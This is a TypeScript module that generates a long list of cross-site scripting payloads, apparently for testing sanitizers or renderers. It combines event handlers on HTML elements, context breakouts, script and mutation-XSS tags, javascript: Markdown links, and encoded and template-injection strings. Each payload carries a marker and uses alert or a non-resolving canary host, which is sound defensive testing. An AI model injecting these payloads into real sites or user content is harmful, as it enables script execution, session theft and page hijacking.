// Text that would become markup or script somewhere, made from parts: elements, handlers, addresses, Markdown, and ways
// to break out of a context. Each carries a mark, so that a node made from it is found.

/** On every element a payload writes. */
export const MARK = 'xss-mark'
/** Nothing answers there; the browser is configured never to resolve it. */
export const CANARY = 'canary.invalid'

const act = `alert('${MARK}')`
const mark = `class=${MARK}`

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
]
const elements = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'iframe src=x',
  'marquee',
  'select autofocus',
  'button autofocus',
  'style',
  'a href=x',
  'textarea autofocus',
  'object data=x',
  'form',
  'table background=x',
]
const breakouts = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '-->',
  ']]>',
  '`>',
  '\\">',
  '${',
  '{{',
]

const scripts = [
  `<script ${mark}>${act}</script>`,
  `<script ${mark} src=//${CANARY}/a.js></script>`,
  `<ScRiPt ${mark}>${act}</sCrIpT>`,
  `<scr<script>ipt ${mark}>${act}</script>`,
  `<script ${mark}>fetch('http://${CANARY}/')</script>`,
  `<svg ${mark}><script>${act}</script></svg>`,
  `<math ${mark}><mtext><img src=x onerror=${act}></mtext></math>`,
  `<template ${mark}><script>${act}</script></template>`,
  `<link ${mark} rel=stylesheet href=//${CANARY}/a.css>`,
  `<base ${mark} href=//${CANARY}/>`,
  `<meta ${mark} http-equiv=refresh content="0;url=http://${CANARY}/">`,
  `<object ${mark} data=//${CANARY}/></object>`,
  `<embed ${mark} src=//${CANARY}/>`,
  `<form ${mark} action=//${CANARY}/><input type=submit></form>`,
  `<iframe ${mark} srcdoc="<script>${act}</script>"></iframe>`,
  `<img ${mark} src=//${CANARY}/a.png>`,
  `<img ${mark} srcset="//${CANARY}/a.png 1x">`,
  `<picture ${mark}><source srcset=//${CANARY}/a.png><img></picture>`,
  `<video ${mark} poster=//${CANARY}/a.png></video>`,
  `<style ${mark}>@import '//${CANARY}/a.css'</style>`,
  `<div ${mark} style="background:url(//${CANARY}/a.png)">x</div>`,
  // Harmless to a filter, and something else once it is read a second time.
  `<noscript><p title="</noscript><img src=x ${mark} onerror=${act}>">`,
  `<svg><style><img src=x ${mark} onerror=${act}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x ${mark} onerror=${act}>">`,
]

const markdown = [
  `[x](javascript:${act})`,
  `[x](JaVaScRiPt:${act})`,
  `[x](java\nscript:${act})`,
  `[x](data:text/html,<script>${act}</script>)`,
  `[x](vbscript:${act})`,
  `[x]( javascript:${act})`,
  `<javascript:${act}>`,
  `![x](http://${CANARY}/a.png)`,
  `![x](//${CANARY}/a.png)`,
  `![x](x "onerror=${act}")`,
  `![${MARK}"onerror="${act}](x)`,
  `[x]: javascript:${act}\n\n[x]`,
  `\`\`\`html\n<img ${mark} src=x onerror=${act}>\n\`\`\``,
  `| a |\n|---|\n| <img ${mark} src=x onerror=${act}> |`,
  `http://${CANARY}/"onmouseover="${act}`,
  `javascript://${CANARY}/%0a${act}`,
  `<a ${mark} href="javascript:${act}">x</a>`,
  `- [ ] <img ${mark} src=x onerror=${act}>`,
  `[^1]\n\n[^1]: <img ${mark} src=x onerror=${act}>`,
]

const others = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '__proto__',
  'constructor',
  '\u202e<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  "';alert(1)//",
  '";alert(1)//',
  '*/alert(1)/*',
]

export function xssPayloads(): string[] {
  const handled = elements.flatMap((element) =>
    handlers.map((handler) => `<${element} ${mark} ${handler}=${act}>`),
  )
  const broken = breakouts.flatMap((breakout) =>
    handlers.map((handler) => `${breakout}<img src=x ${mark} ${handler}=${act}>`),
  )
  const quoted = breakouts.map((breakout) => `${breakout} ${mark} autofocus onfocus=${act} x=`)
  const nested = scripts.flatMap((script) => [
    script,
    `"><b>${script}</b>`,
    `<!--${script}-->${script}`,
  ])
  return [...new Set([...handled, ...broken, ...quoted, ...nested, ...markdown, ...others])]
}
